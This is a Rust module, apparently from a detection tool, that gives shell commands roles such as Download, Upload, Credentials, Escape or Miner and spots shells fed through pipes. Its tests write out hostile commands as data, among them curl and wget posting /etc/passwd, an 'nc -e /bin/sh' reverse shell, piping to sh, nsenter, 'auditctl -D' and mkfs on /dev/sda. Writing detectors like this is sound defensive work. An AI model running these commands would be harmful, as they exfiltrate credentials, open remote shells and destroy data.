//! What a program is for: the role of a command, by program, sub-command and options.

use super::ast::{Command, NestedKind};
use super::role_table::{ROLES, SUBCOMMANDS};

/// What a command is for. One command has one role: the most telling one.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Role {
    /// Fetches from elsewhere (`curl`, `wget`, `scp host:x .`).
    Download,
    /// Sends elsewhere (`curl -T`, `curl -d @file`, `scp x host:`).
    Upload,
    /// Turns an encoded text back (`base64 -d`, `xxd -r`, `openssl enc -d`).
    Decode,
    /// Encodes or encrypts (`base64`, `gpg -c`, `openssl enc`).
    Encode,
    /// Runs program text (`python`, `perl`).
    Interpreter,
    /// A shell.
    Shell,
    /// Makes something run later (`crontab`, `at`, `systemctl enable`).
    Persist,
    /// Reads or changes secrets (`passwd`, `mimipenguin`, `aws sts`).
    Credentials,
    /// Looks around (`id`, `ps`, `uname`, `find`).
    Discovery,
    /// Looks at other hosts (`nmap`, `masscan`).
    Scanner,
    /// Crosses namespaces or roots (`nsenter`, `chroot`, `unshare`).
    Escape,
    /// Mounts file systems.
    Mount,
    /// Carries connections (`ssh -R`, `chisel`, `socat`).
    Tunnel,
    /// Mines.
    Miner,
    /// Attacks by its purpose (`cdk`, `deepce`, `hydra`, `msfconsole`).
    AttackTool,
    /// Packages of the system or a language.
    PackageManagement,
    /// Kernel modules, BPF programs and kernel settings.
    KernelModules,
    /// Starts, stops or asks services.
    ServiceControl,
    /// Copies data for safe-keeping.
    Backup,
    /// Asks whether something lives (`ping`, `nc -z`, `pg_isready`).
    Probe,
    /// Packs or unpacks files.
    Archive,
    /// Filters text.
    TextFilter,
    /// Reads files out (`cat`, `less`, `strings`).
    Read,
    /// Creates, moves, removes or edits files.
    FileChange,
    /// Changes modes, owners or attributes.
    Permission,
    /// Users and groups.
    Account,
    /// Becomes another user.
    Privilege,
    /// Logs and history.
    Logging,
    /// Firewalls, SELinux, AppArmor, audit.
    Defence,
    /// Talks to a container engine.
    ContainerClient,
    /// Runs containers (`runc`, `containerd-shim`).
    ContainerRuntime,
    /// Talks to the Kubernetes API.
    KubernetesClient,
    /// Talks to a cloud's API.
    CloudClient,
    /// Compiles or links.
    Compiler,
    /// Talks to a database.
    Database,
    /// Sets up or shows networks.
    Network,
    /// Connects to any port (`nc`, `telnet`).
    NetworkClient,
    /// Logs in elsewhere.
    RemoteLogin,
    /// Brings hosts to a declared state (`puppet`, `salt-minion`, `ansible`).
    ConfigurationManagement,
    /// Debugs or traces other processes.
    Debugger,
    /// Ends or signals processes.
    ProcessControl,
    /// Prints, tests, waits: harmless alone.
    Plain,
    /// A server or application.
    Service,
    /// Not in the table.
    Unknown,
}

/// Names are at most this long in `proc.name`: the kernel cuts them.
const KERNEL_NAME: usize = 15;

fn by_name(name: &str) -> Option<Role> {
    match ROLES.binary_search_by_key(&name, |(name, _)| name) {
        Ok(at) => Some(ROLES[at].1),
        Err(at) if name.len() == KERNEL_NAME => {
            ROLES.get(at).filter(|(full, _)| full.starts_with(name)).map(|(_, role)| *role)
        }
        Err(_) => None,
    }
}

impl Command {
    /// What the command is for.
    pub fn role(&self) -> Role {
        let name = self.program();
        if name.is_empty() {
            return Role::Unknown;
        }
        let family = self.family();
        if let Some(role) = self.role_by_arguments(family) {
            return role;
        }
        if self.is_shell() {
            return Role::Shell;
        }
        by_name(name).or_else(|| by_name(family)).unwrap_or_else(|| {
            if name.starts_with("mkfs.") || name.starts_with("fsck.") { Role::FileChange } else { Role::Unknown }
        })
    }

    /// Whether it is a shell or an interpreter that runs what comes through its standard input:
    /// no script, no `-c`, at most options, `-`, `-s` or `/dev/stdin`.
    pub fn runs_its_input(&self) -> bool {
        let interprets = matches!(self.family(), "python" | "perl" | "ruby" | "php" | "node" | "lua");
        let given = self.nested.iter().any(|nested| nested.kind == NestedKind::ShellC)
            || (self.code.is_some() && self.redirections.is_empty());
        if given || !(interprets || self.is_shell()) {
            return false;
        }
        for arg in self.arg_texts() {
            match arg {
                "-" | "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0" => return true,
                "-s" => return self.is_shell(),
                "-m" => return false,
                _ if arg.starts_with(['-', '+']) => {}
                _ => return false,
            }
        }
        true
    }

    /// The first argument that is no option, and the second.
    pub fn subcommand(&self) -> (&str, &str) {
        let mut words = self.arg_texts().filter(|arg| !arg.starts_with('-'));
        (words.next().unwrap_or(""), words.next().unwrap_or(""))
    }

    fn role_by_arguments(&self, family: &str) -> Option<Role> {
        let begins = |prefixes: &[&str]| self.arg_texts().any(|arg| prefixes.iter().any(|p| arg.starts_with(p)));
        match family {
            "curl" => {
                let sends = self.has_option('T', "upload-file")
                    || self.has_option('F', "form")
                    || begins(&["--data", "--json", "--post", "-d@", "-d", "--url-query"])
                        && self.arg_texts().any(|arg| arg.contains('@'))
                    || self.has_arg("-d");
                sends.then_some(Role::Upload)
            }
            "wget" => begins(&["--post-", "--body-", "--method=P"]).then_some(Role::Upload),
            "base64" | "base32" | "basenc" | "uudecode" | "b64decode" => {
                let decodes =
                    self.has_option('d', "decode") || self.has_option('D', "decode") || family.ends_with("decode");
                Some(if decodes { Role::Decode } else { Role::Encode })
            }
            "xxd" | "od" | "hexdump" => Some(if self.has_option('r', "revert") { Role::Decode } else { Role::Encode }),
            "openssl" => match self.subcommand().0 {
                "enc" | "base64" | "aes-256-cbc" | "rsautl" | "pkeyutl" | "smime" | "cms" => {
                    Some(if self.has_arg("-d") || self.has_arg("-decrypt") { Role::Decode } else { Role::Encode })
                }
                "s_client" => Some(Role::NetworkClient),
                "passwd" => Some(Role::Credentials),
                _ => None,
            },
            "gpg" | "gpg2" => Some(if self.has_option('d', "decrypt") { Role::Decode } else { Role::Encode }),
            "scp" | "rsync" | "rclone" | "sftp" => {
                let last = self.arg_texts().next_back().unwrap_or("");
                Some(if is_remote(last) { Role::Upload } else { Role::Download })
            }
            "ssh" | "slogin" | "autossh" => {
                let letters = ['R', 'L', 'D', 'w'];
                let forwards = self.args().iter().take_while(|word| word.text != "--").any(|word| {
                    word.text.strip_prefix('-').is_some_and(|rest| rest.starts_with(letters) || rest == "N")
                });
                forwards.then_some(Role::Tunnel)
            }
            "nc" => self.has_option('z', "").then_some(Role::Probe),
            "sed" => self.has_option('i', "in-place").then_some(Role::FileChange),
            "find" => {
                let changes = self.has_arg("-delete");
                changes.then_some(Role::FileChange)
            }
            "awk" | "head" | "tail" | "grep" | "egrep" | "fgrep" | "cut" | "sort" | "tr" | "uniq" | "wc" => None,
            "tar" => Some(Role::Archive),
            _ => self.role_by_subcommand(family),
        }
    }

    fn role_by_subcommand(&self, family: &str) -> Option<Role> {
        let from = SUBCOMMANDS.partition_point(|row| row.program < family);
        let rows = SUBCOMMANDS[from..].iter().take_while(|row| row.program == family);
        let mut rows = rows.peekable();
        rows.peek()?;
        let (first, second) = self.subcommand();
        rows.find(|row| row.words.iter().any(|word| *word == first || (*word == second && !second.is_empty())))
            .map(|row| row.role)
    }
}

/// Whether an operand of `scp` or `rsync` is elsewhere: `host:path`, but no `C:` and no path with
/// a slash before the colon.
fn is_remote(operand: &str) -> bool {
    operand.contains("://") || operand.split_once(':').is_some_and(|(host, _)| host.len() > 1 && !host.contains('/'))
}

#[cfg(test)]
mod tests {
    use super::super::parse_argv;
    use super::*;

    #[test]
    fn commands_have_the_role_that_their_arguments_give() {
        for (line, role) in [
            ("curl -s http://x", Role::Download),
            ("curl -T /etc/passwd http://x", Role::Upload),
            ("curl -d @/etc/passwd http://x", Role::Upload),
            ("curl --data-binary @/etc/passwd http://x", Role::Upload),
            ("curl -F f=@/etc/passwd http://x", Role::Upload),
            ("wget -q http://x", Role::Download),
            ("wget --post-file=/etc/passwd http://x", Role::Upload),
            ("base64 -d", Role::Decode),
            ("base64 --decode", Role::Decode),
            ("base64 /etc/passwd", Role::Encode),
            ("openssl enc -d -aes-256-cbc -in x", Role::Decode),
            ("openssl enc -aes-256-cbc -in x", Role::Encode),
            ("openssl s_client -connect x:443", Role::NetworkClient),
            ("openssl x509 -in x", Role::Plain),
            ("xxd -r -p", Role::Decode),
            ("tar czf - /etc", Role::Archive),
            ("scp /x user@host:/y", Role::Upload),
            ("scp user@host:/y .", Role::Download),
            ("rsync -a /a/b:c /d", Role::Download),
            ("ssh -R 9000:localhost:22 host", Role::Tunnel),
            ("ssh host", Role::RemoteLogin),
            ("nc -z db 5432", Role::Probe),
            ("nc 1.2.3.4 4444 -e /bin/sh", Role::NetworkClient),
            ("ncat.openbsd", Role::Unknown),
            ("nc.traditional -lvp 1", Role::NetworkClient),
            ("python3.11 x.py", Role::Interpreter),
            ("bash", Role::Shell),
            ("-bash", Role::Shell),
            ("systemctl enable x", Role::Persist),
            ("systemctl --user enable x", Role::Persist),
            ("systemctl status x", Role::ServiceControl),
            ("crontab -e", Role::Persist),
            ("kubectl get pods", Role::KubernetesClient),
            ("docker ps", Role::ContainerClient),
            ("containerd-shim -namespace moby", Role::ContainerRuntime),
            ("update-ca-certi", Role::FileChange),
            ("busybox wget http://x", Role::Download),
            ("sudo -u root apt-get install x", Role::PackageManagement),
            ("sed -i s/a/b/ x", Role::FileChange),
            ("sed s/a/b/", Role::TextFilter),
            ("insmod x.ko", Role::KernelModules),
            ("/usr/sbin/dkms status", Role::KernelModules),
            ("xmrig -o x", Role::Miner),
            ("nsenter -t 1 -m", Role::Escape),
            ("chmod u+s x", Role::Permission),
            ("useradd x", Role::Account),
            ("auditctl -D", Role::Defence),
            ("mkfs.ext4 /dev/sda", Role::FileChange),
            ("apt-key add x", Role::PackageManagement),
            ("ip netns list", Role::Network),
            ("x86_64-linux-gnu-gcc-12 x.c", Role::Compiler),
            ("no-such-program", Role::Unknown),
            ("", Role::Unknown),
        ] {
            let script = parse_argv(line);
            let found = script.items.first().map_or(Role::Unknown, |item| item.pipeline.commands[0].role());
            assert_eq!(found, role, "{line}");
        }
    }

    #[test]
    fn a_shell_or_interpreter_without_a_script_runs_its_input() {
        let last = |text: &str| {
            let mut found = false;
            super::super::parse_shell(text).for_each_command(|visit| found = visit.command.runs_its_input());
            found
        };
        for text in [
            "x | sh",
            "x | bash -s -- a",
            "x | sudo bash -x",
            "x | python3 -",
            "x | perl",
            "x | sh /dev/stdin",
            "x | busybox sh",
        ] {
            assert!(last(text), "{text}");
        }
        for text in ["x | sh a.sh", "x | python3 -m json.tool", "x | perl -ne print", "x | cat"] {
            assert!(!last(text), "{text}");
        }
    }

    #[test]
    fn tables_are_sorted_and_have_no_doubles() {
        for pair in ROLES.windows(2) {
            assert!(pair[0].0 < pair[1].0, "{} {}", pair[0].0, pair[1].0);
        }
        assert!(SUBCOMMANDS.is_sorted_by_key(|row| row.program));
    }
}
